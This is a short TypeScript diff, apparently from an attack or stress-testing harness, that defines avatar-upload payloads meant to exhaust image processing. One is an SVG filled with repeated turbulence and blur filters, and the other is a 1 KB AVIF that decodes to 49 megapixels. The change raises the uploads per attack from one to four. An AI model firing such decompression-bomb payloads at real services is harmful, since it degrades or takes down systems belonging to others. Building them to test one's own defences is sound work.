@@ -26,17 +26,17 @@ const plain = (side: number) => sharp({ create: { width: side, height: side, cha
 
 /** Five kilobytes of filters, which a drawing library works on for minutes. */
 export const svgAvatar: Attack = {
-  name: 'avatar SVG di 5 KB con filtri',
+  name: '4 avatar SVG di 5 KB con filtri',
   prepare: (target) => {
     const filter = '<feTurbulence numOctaves="9" baseFrequency=".9"/><feGaussianBlur stdDeviation="90"/>'.repeat(52);
     const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="7000" height="7000"><filter id="f">${filter}</filter><rect width="7000" height="7000" filter="url(#f)"/></svg>`;
-    return sendAvatars(target, 'image/svg+xml', Buffer.from(svg), 1);
+    return sendAvatars(target, 'image/svg+xml', Buffer.from(svg), 4);
   },
 };
 
 /** A kilobyte that becomes hundreds of megabytes. */
 export const avifAvatar: Attack = {
-  name: 'avatar AVIF di 1 KB, 49 megapixel',
+  name: '4 avatar AVIF di 1 KB, 49 megapixel',
   prepare: async (target) =>
     sendAvatars(target, 'image/avif', await plain(7000).avif({ effort: 0, quality: 1 }).toBuffer(), 4),
 };
